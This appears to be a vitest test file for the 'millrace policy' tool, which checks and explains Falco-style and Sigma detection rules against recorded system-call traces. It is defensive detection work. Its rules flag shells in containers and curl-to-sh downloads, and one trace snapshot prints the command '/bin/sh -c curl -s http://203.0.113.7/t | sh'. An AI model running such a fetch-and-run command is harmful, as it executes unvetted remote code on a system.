import { mkdirSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { describe, it } from "vitest";
import { type Ended, runCommand } from "./support/command.ts";
import { root } from "./support/places.ts";
import { scratchFolder } from "./support/scratch.ts";

const scratch = scratchFolder();

/** Files of a folder of its own, in which a command then runs. */
function folderOf(name: string, files: Readonly<Record<string, string>>): string {
  const folder = join(scratch, name);
  for (const [file, text] of Object.entries(files)) {
    mkdirSync(dirname(join(folder, file)), { recursive: true });
    writeFileSync(join(folder, file), text);
  }
  return folder;
}

/** Runs a command. The folder of the workspace is left out of what it prints. */
async function policy(args: readonly string[], cwd: string = root): Promise<Ended> {
  const ended = await runCommand("millrace", ["policy", ...args], { cwd });
  return { ...ended, stdout: ended.stdout.replaceAll(`${root}/`, ""), stderr: ended.stderr.replaceAll(`${root}/`, "") };
}

const pod = join(root, "examples/traces/pod.sf");

const RULES = `
- list: shells
  items: [sh, bash]

- macro: exec
  condition: sf.type = PE and sf.opflags = EXEC

- rule: Shell
  desc: A shell starts
  condition: exec and sf.proc.name in (shells) and not sf.container.type = host
  priority: high
  tags: [a, b]

- rule: Old
  desc: Nobody wants to know
  condition: exec
  enabled: false

- rule: Never
  desc: No record has all of that
  condition: sf.type = NF and sf.file.path exists
`;

const SIGMA_RULE = `title: A download
id: r1
logsource: { product: linux, category: network_connection }
detection:
  tool:
    Image|endswith: [/curl, /SH]
    CommandLine|contains|all:
      - 'http'
      - 203
  shell:
    - Image|expand|endswith: '/%shells%'
    - Target|startswith: /tmp/
  keywords: [nothing such, t | sh]
  filter_odd:
    Image: /x*y
    Nothing: 1
  filter_none: { User: null }
  condition: tool and 1 of shell* and keywords and not (filter_odd or filter_none)
level: high
`;

describe.concurrent("millrace policy check", () => {
  it("counts what there is", async ({ expect }) => {
    const { code, stdout, stderr } = await policy(["check", "examples/policies"]);
    expect({ code, stdout, stderr }).toMatchInlineSnapshot(`
      {
        "code": 0,
        "stderr": "",
        "stdout": "1 file: 4 rules, 3 macros, 3 lists, 1 drop filter; no errors
      ",
      }
    `);
  });

  it("tells all that is wrong in all files, with carets", async ({ expect }) => {
    const cwd = folderOf("wrong", {
      "rules/a.yaml": "- rule: A\n  desc: d\n  condition: spawned and (sf.type = PE\n- rule: B\n  desc: d\n  condition: sf.proc.nme = sh and exce\n",
      "rules/b.yml": "- macro: exec\n  condition: sf.opflags = EXEC and\n",
      "rules/b.test.yaml": "tests: []\n",
      "rules/notes.txt": "no policy",
    });
    const { code, stdout, stderr } = await policy(["check", "rules"], cwd);
    expect(code).toBe(1);
    expect(stderr).toMatchInlineSnapshot(`
      "rules/a.yaml:3:26: error MILLRACE_POLICY_SYNTAX: a parenthesis is not closed
            condition: spawned and (sf.type = PE
                                   ^
        hint: add ")"
      rules/a.yaml:6:14: warning MILLRACE_POLICY_ATTRIBUTE: "sf.proc.nme" is no attribute, so its value is empty
            condition: sf.proc.nme = sh and exce
                       ^~~~~~~~~~~
        hint: did you mean "sf.proc.name"?
      rules/a.yaml:6:35: error MILLRACE_POLICY_MACRO: there is no macro "exce"
            condition: sf.proc.nme = sh and exce
                                            ^~~~
        hint: did you mean "exec"?
      rules/b.yml:2:35: error MILLRACE_POLICY_SYNTAX: expected an attribute, a literal or the name of a macro, got the end of the condition
            condition: sf.opflags = EXEC and
                                            ^
      3 errors, 1 warning
      "
    `);
    expect(stdout).toMatchInlineSnapshot(`
      "2 files: 1 rule, 1 macro, 0 lists, 0 drop filters; 3 errors, 1 warning
      "
    `);
  });

  it("makes errors of warnings if asked, and JSON", async ({ expect }) => {
    const cwd = folderOf("warnings", { "w.yaml": "- rule: W\n  desc: d\n  condition: sf.proc.nme = sh\n" });
    const lenient = await policy(["check", "w.yaml"], cwd);
    expect([lenient.code, lenient.stdout]).toEqual([0, "1 file: 1 rule, 0 macros, 0 lists, 0 drop filters; 1 warning\n"]);
    const strict = await policy(["check", "w.yaml", "--strict", "--json"], cwd);
    expect(strict.code).toBe(1);
    expect(strict.stderr).toBe("");
    expect(JSON.parse(strict.stdout)).toMatchInlineSnapshot(`
      {
        "diagnostics": [
          {
            "code": "MILLRACE_POLICY_ATTRIBUTE",
            "column": 14,
            "file": "w.yaml",
            "hint": "did you mean "sf.proc.name"?",
            "length": 11,
            "line": 3,
            "message": ""sf.proc.nme" is no attribute, so its value is empty",
            "severity": "error",
            "text": "w.yaml:3:14: error MILLRACE_POLICY_ATTRIBUTE: "sf.proc.nme" is no attribute, so its value is empty
            condition: sf.proc.nme = sh
                       ^~~~~~~~~~~
        hint: did you mean "sf.proc.name"?",
          },
        ],
        "files": [
          "w.yaml",
        ],
        "filters": 0,
        "lists": 0,
        "macros": 0,
        "ok": false,
        "rules": 1,
      }
    `);
  });

  it("reads Sigma", async ({ expect }) => {
    const cwd = folderOf("sigma", {
      "map.yaml": "fieldmappings:\n  Image: sf.proc.exe\n",
      "rules/r.yaml": "title: t\nid: r1\ndetection:\n  sel:\n    Image|endswith: /sh\n    Nothing: 1\n  condition: sel\nlevel: high\n",
    });
    const { code, stdout, stderr } = await policy(["check", "rules", "-l", "sigma", "-c", "map.yaml"], cwd);
    expect(code).toBe(0);
    expect(stderr).toContain("rules/r.yaml:6:5: warning MILLRACE_SIGMA_FIELD");
    expect(stdout).toBe("1 file: 1 rule, 0 macros, 0 lists, 0 drop filters; 1 warning\n");
  });

  it("tells of every path with nothing in it", async ({ expect }) => {
    const { code, stderr } = await policy(["check", "nowhere", "package.json"]);
    expect(code).toBe(1);
    expect(stderr).toMatchInlineSnapshot(`
      "error MILLRACE_POLICY_PATH: no policy files with extension .yaml or .yml found in path: nowhere
        hint: there is nothing at this path
      error MILLRACE_POLICY_PATH: no policy files with extension .yaml or .yml found in path: package.json
        hint: package.json has another extension
      2 errors
      "
    `);
  });
});

describe.concurrent("millrace policy list", () => {
  it("says which records each rule can match", async ({ expect }) => {
    const cwd = folderOf("list", { "rules.yaml": RULES });
    const { code, stdout } = await policy(["list", "rules.yaml"], cwd);
    expect(code).toBe(0);
    expect(stdout).toMatchInlineSnapshot(`
      "KIND  NAME   PRIORITY  TYPES  ENABLED  TAGS
      rule  Shell  high      PE     yes      a, b
      rule  Old    low       PE     no
      rule  Never  low       never  yes
      "
    `);
    const json = await policy(["list", "rules.yaml", "--json"], cwd);
    expect(JSON.parse(json.stdout)[0]).toMatchInlineSnapshot(`
      {
        "actions": [],
        "desc": "A shell starts",
        "enabled": true,
        "file": "rules.yaml",
        "kind": "rule",
        "line": 8,
        "name": "Shell",
        "priority": "high",
        "tags": [
          "a",
          "b",
        ],
        "types": [
          "PE",
        ],
      }
    `);
  });
});

describe.concurrent("millrace policy explain", () => {
  it("shows why the first record matches", async ({ expect }) => {
    const cwd = folderOf("explain", { "policies/rules.yaml": RULES });
    const { code, stdout, stderr } = await policy(["explain", "Shell", pod], cwd);
    expect({ code, stderr }).toEqual({ code: 0, stderr: "" });
    expect(stdout).toMatchInlineSnapshot(`
      "Shell (high) policies/rules.yaml:8:9
      #12 PE EXEC by /bin/sh (pid 2231) at 2020-09-13T12:26:40.011000000Z
      matches

      ✓ and
        ✓ exec (macro)
          ✓ and
            ✓ sf.type = PE   # sf.type: "PE"
            ✓ sf.opflags = EXEC   # sf.opflags: [EXEC]
        ✓ sf.proc.name in (shells)   # sf.proc.name: "sh"; shells = [sh, bash]
        ✓ not
          ✗ sf.container.type = host   # sf.container.type: "CONTAINERD"
      "
    `);
  });

  it("shows the nearest record where none matches, and what it lacks", async ({ expect }) => {
    const { code, stdout } = await policy(["explain", "Shell in a container", "examples/traces/client-server.sf", "-p", "examples/policies"]);
    expect(code).toBe(0);
    expect(stdout).toMatchInlineSnapshot(`
      "no record of examples/traces/client-server.sf matches; this one is nearest
      Shell in a container (medium) examples/policies/containers.yaml:25:9
      #1 PE EXEC by ./server (pid 13823) at 2020-09-13T12:26:40.001000000Z
      does not match

      ✓ prefilter [PE]   # sf.type: PE
      ✗ and
        ✓ starts_program (macro)
          ✓ and
            ✓ sf.type = PE   # sf.type: "PE"
            ✓ sf.opflags = EXEC   # sf.opflags: [EXEC]
            ✓ sf.ret = 0   # sf.ret: 0
        ✗ in_container (macro)
          ✗ sf.container.type != host   # sf.container.type: "host"
        ✗ sf.proc.name in (shells)   # sf.proc.name: "server"; shells = [sh, bash, dash, zsh, ash]   (not asked)
      "
    `);
  });

  it("takes policies before the rule as well as after the trace, from more than one place", async ({ expect }) => {
    const cwd = folderOf("explain-places", { "one.yaml": RULES, "more/other.yaml": "- rule: Other\n  desc: d\n  condition: sf.proc.pid = 0\n" });
    const { code, stdout } = await policy(["explain", "-p", "one.yaml", "-p", "more", "Shell", pod], cwd);
    expect(code).toBe(0);
    expect(stdout).toContain("Shell");
    expect(await policy(["explain", "-p", "one.yaml", "--policies", "more", "Other", pod], cwd)).toMatchObject({ code: 0 });
    expect(await policy(["explain", "-p", "one.yaml", "Other", pod], cwd)).toMatchObject({ code: 1 });
  });

  it("explains a record of choice, a rule that is not enabled, and what a drop filter does", async ({ expect }) => {
    const cwd = folderOf("choice", { "policies/rules.yaml": `${RULES}\n- drop: curls\n  condition: sf.proc.name = curl\n` });
    const one = await policy(["explain", "Old", pod, "--record", "12"], cwd);
    expect(one.stdout).toContain("would match, but the rule is not enabled\n");
    const dropped = await policy(["explain", "Old", pod, "--where", "sf.proc.name = curl and sf.opflags = EXEC"], cwd);
    expect(dropped.stdout).toMatchInlineSnapshot(`
      "Old (low) policies/rules.yaml:14:9
      #15 PE EXEC by /usr/bin/curl (pid 2232) at 2020-09-13T12:26:40.013000000Z
      would match, but the drop filter "curls" discards the record before any rule is asked

      ✓ exec (macro)
        ✓ and
          ✓ sf.type = PE   # sf.type: "PE"
          ✓ sf.opflags = EXEC   # sf.opflags: [EXEC]

      drop filter curls
      ✓ sf.proc.name = curl   # sf.proc.name: "curl"
      "
    `);
    const none = await policy(["explain", "Old", pod, "--record", "99"], cwd);
    expect([none.code, none.stderr]).toMatchInlineSnapshot(`
      [
        1,
        "error MILLRACE_POLICY_NO_RECORD: examples/traces/pod.sf has no record 99
      1 error
      ",
      ]
    `);
  });

  it("takes only a match if asked, knows the nearest name, and says where a condition is wrong", async ({ expect }) => {
    const cwd = folderOf("refuse", { "policies/rules.yaml": RULES });
    const first = await policy(["explain", "Never", pod, "--first"], cwd);
    expect([first.code, first.stdout, first.stderr]).toMatchInlineSnapshot(`
      [
        1,
        "",
        "error MILLRACE_POLICY_NO_RECORD: no record of examples/traces/pod.sf matches "Never"
        hint: without --first, the nearest one is explained
      1 error
      ",
      ]
    `);
    const name = await policy(["explain", "Shel", pod], cwd);
    expect([name.code, name.stderr]).toMatchInlineSnapshot(`
      [
        1,
        "error MILLRACE_POLICY_RULE: there is no rule "Shel"
        hint: did you mean "Shell"?
      1 error
      ",
      ]
    `);
    const where = await policy(["explain", "Shell", pod, "--where", "sf.proc.nam = x or exists"], cwd);
    expect([where.code, where.stderr]).toMatchInlineSnapshot(`
      [
        1,
        "--where:1:20: error MILLRACE_POLICY_SYNTAX: expected an attribute, a literal or the name of a macro, got "exists"
          sf.proc.nam = x or exists
                             ^~~~~~
        hint: put a literal of that name in quotes
      1 error
      ",
      ]
    `);
  });

  it("shows a Sigma rule as it was written, searches by their names, and finds it by its title", async ({ expect }) => {
    const cwd = folderOf("sigma-explain", {
      "map.yaml":
        "fieldmappings:\n  Image: sf.proc.exe\n  CommandLine: sf.proc.cmdline\n  Target: [sf.file.path, sf.file.newpath]\nplaceholders:\n  shells: [sh, bash]\n",
      "r.yaml": SIGMA_RULE,
    });
    const { stdout } = await policy(["explain", "A download", pod, "-p", "r.yaml", "-l", "sigma", "-c", "map.yaml"], cwd);
    expect(stdout).toMatchInlineSnapshot(`
      "A download [r1] (high) r.yaml:18:14
      #12 PE EXEC by /bin/sh (pid 2231) at 2020-09-13T12:26:40.011000000Z
      matches

      ✓ and
        ✓ tool (search)
          ✓ and
            ✓ Image|endswith: [/curl, /SH]   # sf.proc.exe: "/bin/sh"
            ✓ CommandLine|contains|all: [http, 203]   # sf.proc.cmdline: "/bin/sh -c curl -s http://203.0.113.7/t | sh"
        ✓ 1 of shell*
          ✓ shell (search)
            ✓ or
              ✓ Image|expand|endswith: /%shells%   # sf.proc.exe: "/bin/sh"
              ✗ Target|startswith: /tmp/   # sf.file.path: ""; sf.file.newpath: ""   (not asked)
        ✓ keywords (search)
          ✓ or
            ✗ keyword nothing such   # none of 17 attributes
            ✓ keyword t | sh   # sf.proc.args: "-c curl -s http://203.0.113.7/t | sh"
        ✓ not
          ✗ or
            ✗ filter_odd (search)
              ✗ and
                ✗ Image: /x*y   # sf.proc.exe: "/bin/sh"
                ✗ Nothing: 1   # never true   (not asked)
            ✗ filter_none (search)
              ✗ User: null   # never true
      "
    `);
    expect((await policy(["explain", "r1", pod, "-p", "r.yaml", "-l", "sigma", "-c", "map.yaml"], cwd)).stdout).toBe(stdout);
    const strict = await policy(["explain", "r1", pod, "-p", "r.yaml", "-l", "sigma", "-c", "map.yaml", "--logsource", "strict", "-r", "2"], cwd);
    expect(strict.stdout).toContain("does not match\n\n✗ prefilter [NF]   # sf.type: PE\n");
    expect((await policy(["list", "r.yaml", "-l", "sigma", "-c", "map.yaml"], cwd)).stdout).toMatchInlineSnapshot(`
      "KIND  NAME  TITLE       PRIORITY  TYPES           ENABLED  TAGS
      rule  r1    A download  high      PE,NF,FF,FE,KE  yes
      "
    `);
    const unknown = await policy(["explain", "A downlaod", pod, "-p", "r.yaml", "-l", "sigma"], cwd);
    expect(unknown.stderr).toContain('error MILLRACE_POLICY_RULE: there is no rule "A downlaod"\n  hint: did you mean "A download"?');
  });
});

describe.concurrent("millrace policy test", () => {
  it("runs the tests of the examples", async ({ expect }) => {
    const { code, stdout, stderr } = await policy(["test", "examples/policies"]);
    expect({ code, stderr }).toEqual({ code: 0, stderr: "" });
    expect(stdout).toMatchInlineSnapshot(`
      "examples/policies/containers.test.yaml
        ✓ an attack on a web server, as it was recorded (25 events)
        ✓ a shell is alarming in a container only (2 events)
        ✓ what was already a shell and starts nothing is left alone (2 events)
        ✓ a download by a script, but not by a person (6 events)
        ✓ health checks are dropped before any rule (1 event)
        ✓ hidden files, and those that are not (3 events)
      6 tests: 6 passed, 0 failed
      "
    `);
  });

  it("shows what fails, and why", async ({ expect }) => {
    const cwd = folderOf("failing", {
      "rules.yaml": RULES,
      "rules.test.yaml": `
tests:
  - name: no container
    events:
      - process: sh
        exe: /bin/sh
      - exec: /bin/bash
    expect: [Shell]
  - name: for one event
    events:
      - container: c
      - process: p
        container: c
      - exec: /bin/sh
        expect: []
  - name: not at all
    trace: ${pod}
    not: [Shell]
  - name: by record
    trace: ${pod}
    expect:
      12: [Shell]
      13: []
      99: [Shell]
  - name: it passes
    trace: ${pod}
    expect: [Shell]
  - name: no such trace
    trace: nowhere.sf
    expect: []
`,
    });
    const { code, stdout, stderr } = await policy(["test", "."], cwd);
    expect({ code, stderr }).toEqual({ code: 1, stderr: "" });
    expect(stdout).toMatchInlineSnapshot(`
      "rules.test.yaml
        ✗ no container (1 event)
            expected "Shell" to fire: it did not
              Shell (high) rules.yaml:8:9
              #1 PE EXEC by /bin/bash (pid 1000) at 2020-09-13T12:26:40.001000000Z
              does not match

              ✗ and
                ✓ exec (macro)
                  ✓ and
                    ✓ sf.type = PE   # sf.type: "PE"
                    ✓ sf.opflags = EXEC   # sf.opflags: [EXEC]
                ✓ sf.proc.name in (shells)   # sf.proc.name: "bash"; shells = [sh, bash]
                ✗ not
                  ✓ sf.container.type = host   # sf.container.type: "host"
        ✗ for one event (1 event)
            "Shell" fired for the event, which was not expected
              Shell (high) rules.yaml:8:9
              #1 PE EXEC by /bin/sh (pid 1000) at 2020-09-13T12:26:40.001000000Z
              matches

              ✓ and
                ✓ exec (macro)
                  ✓ and
                    ✓ sf.type = PE   # sf.type: "PE"
                    ✓ sf.opflags = EXEC   # sf.opflags: [EXEC]
                ✓ sf.proc.name in (shells)   # sf.proc.name: "sh"; shells = [sh, bash]
                ✓ not
                  ✗ sf.container.type = host   # sf.container.type: "DOCKER"
        ✗ not at all (25 events)
            "Shell" must not fire, and did
              Shell (high) rules.yaml:8:9
              #12 PE EXEC by /bin/sh (pid 2231) at 2020-09-13T12:26:40.011000000Z
              matches

              ✓ and
                ✓ exec (macro)
                  ✓ and
                    ✓ sf.type = PE   # sf.type: "PE"
                    ✓ sf.opflags = EXEC   # sf.opflags: [EXEC]
                ✓ sf.proc.name in (shells)   # sf.proc.name: "sh"; shells = [sh, bash]
                ✓ not
                  ✗ sf.container.type = host   # sf.container.type: "CONTAINERD"
        ✗ by record (25 events)
            expected something of record 99: there are only 25
        ✓ it passes (25 events)
        ✗ no such trace (0 events)
            MILLRACE_TRACE_FILE: can't read nowhere.sf: no such file or directory
      6 tests: 1 passed, 5 failed
      "
    `);
    const quiet = await policy(["test", "rules.test.yaml", "-q"], cwd);
    expect(quiet.stdout).not.toContain("it passes");
  });

  it("asks for the order in which rules fire first", async ({ expect }) => {
    const cwd = folderOf("order", {
      "r.yaml": "- rule: A\n  desc: d\n  condition: sf.proc.name = a\n- rule: B\n  desc: d\n  condition: sf.proc.name = b\n",
      "r.test.yaml":
        "tests:\n  - name: in order\n    events: [{process: b}, {exec: ~}, {process: a}, {exec: ~}]\n    expect: [B, A]\n  - name: the other way\n    events: [{process: b}, {exec: ~}, {process: a}, {exec: ~}]\n    expect: [A, B]\n",
    });
    const { code, stdout } = await policy(["test", "r.test.yaml"], cwd);
    expect(code).toBe(1);
    expect(stdout).toMatchInlineSnapshot(`
      "r.test.yaml
        ✓ in order (2 events)
        ✗ the other way (2 events)
            expected "B" to fire after "A": it fired only before
      2 tests: 1 passed, 1 failed
      "
    `);
  });

  it("tells all that is wrong with a test file", async ({ expect }) => {
    const cwd = folderOf("broken", {
      "a.yaml": RULES,
      "a.test.yaml": `
policy: [a.yaml]
tests:
  - name: words
    events:
      - proces: sh
      - exec: /bin/sh
      - process: x
        exce: /bin/x
        pid: many
      - connect: somewhere
      - connect: 1.2.3.4 -> 5.6.7.8:80
      - rename: /a
      - open: /a
        flags: [RDONLI]
      - container: c
        type: DOCKER
      - by: x
    expect: []
  - events: []
    trace: x.sf
  - name: nothing
    events: [{process: x}, {exec: ~}]
`,
      "b.yaml": RULES,
      "b.test.yaml": "tests:\n  - name: names\n    events: [{process: x}, {exec: ~}]\n    expect: [Shel]\n    not: [Nothing at all]\n",
      "c.test.yaml": "tests: [\n",
    });
    const { code, stdout, stderr } = await policy(["test", "."], cwd);
    expect([code, stdout]).toEqual([1, "0 tests: 0 passed, 0 failed, 3 files could not be run\n"]);
    expect(stderr).toMatchInlineSnapshot(`
      "a.test.yaml:2:1: error MILLRACE_POLICY_TEST: a test file has no key "policy"
          policy: [a.yaml]
          ^~~~~~
        hint: its keys are policies, language, config, logsource, tests
      a.test.yaml:6:9: error MILLRACE_POLICY_TEST: "proces" is nothing that can happen
                - proces: sh
                  ^~~~~~
        hint: did you mean "process"?
      a.test.yaml:7:9: error MILLRACE_POLICY_TEST: the scenario has no process yet
                - exec: /bin/sh
                  ^~~~~~~~~~~~~
        hint: put "- process: NAME" before it
      a.test.yaml:9:9: error MILLRACE_POLICY_TEST: "process" has no key "exce"
                  exce: /bin/x
                  ^~~~
        hint: did you mean "exe"?
      a.test.yaml:10:14: error MILLRACE_POLICY_TEST: pid is a number
                  pid: many
                       ^~~~
      a.test.yaml:11:18: error MILLRACE_POLICY_TEST: what follows "connect" are two ends
                - connect: somewhere
                           ^~~~~~~~~
        hint: write them as 10.0.0.1:40000 -> 10.0.0.2:80
      a.test.yaml:12:9: error MILLRACE_POLICY_TEST: 1.2.3.4 is no end of a connection
                - connect: 1.2.3.4 -> 5.6.7.8:80
                  ^~~~~~~~~~~~~~~~~~~~~~~~~~~~~~
        hint: write it as 10.0.0.1:8080
      a.test.yaml:13:17: error MILLRACE_POLICY_TEST: "rename" needs "to"
                - rename: /a
                          ^~
        hint: add the new path: to: /a/path
      a.test.yaml:15:17: error MILLRACE_POLICY_TEST: "RDONLI" is none of flags
                  flags: [RDONLI]
                          ^~~~~~
        hint: did you mean "RDONLY"?
      a.test.yaml:16:20: error MILLRACE_POLICY_TEST: "DOCKER" is no type of containers
                - container: c
                             ^
        hint: did you mean "CT_DOCKER"?
      a.test.yaml:18:9: error MILLRACE_POLICY_TEST: "by" is nothing that can happen
                - by: x
                  ^~
        hint: an item begins with one of host, pod, container, process, exec, clone, setuid, exit, open, read, write, mkdir, rmdir, unlink, rename, link, symlink, connect, accept, k8s
      a.test.yaml:20:5: error MILLRACE_POLICY_TEST: the test has no name
            - events: []
              ^~~~~~~~~~
        hint: add "name:"
      a.test.yaml:20:5: error MILLRACE_POLICY_TEST: a test has either events or a trace
            - events: []
              ^~~~~~~~~~
      a.test.yaml:20:5: error MILLRACE_POLICY_TEST: the test expects nothing
            - events: []
              ^~~~~~~~~~
        hint: add "expect:" with rules that must fire, or "not:" with rules that must not
      a.test.yaml:22:5: error MILLRACE_POLICY_TEST: the test expects nothing
            - name: nothing
              ^~~~~~~~~~~~~
        hint: add "expect:" with rules that must fire, or "not:" with rules that must not
      15 errors
      b.test.yaml:4:14: error MILLRACE_POLICY_TEST: there is no rule "Shel"
              expect: [Shel]
                       ^~~~
        hint: did you mean "Shell"?
      b.test.yaml:5:11: error MILLRACE_POLICY_TEST: there is no rule "Nothing at all"
              not: [Nothing at all]
                    ^~~~~~~~~~~~~~
        hint: millrace policy list says which there are
      2 errors
      c.test.yaml:2:1: error MILLRACE_POLICY_TEST: Flow sequence in block collection must be sufficiently indented and end with a ]
          
          ^
      1 error
      "
    `);
  });

  it("says where there are no tests", async ({ expect }) => {
    const { code, stderr } = await policy(["test", "examples/traces"]);
    expect([code, stderr]).toMatchInlineSnapshot(`
      [
        1,
        "error MILLRACE_POLICY_TEST: there are no tests in examples/traces
        hint: a test file has a name that ends in .test.yaml
      1 error
      ",
      ]
    `);
  });
});
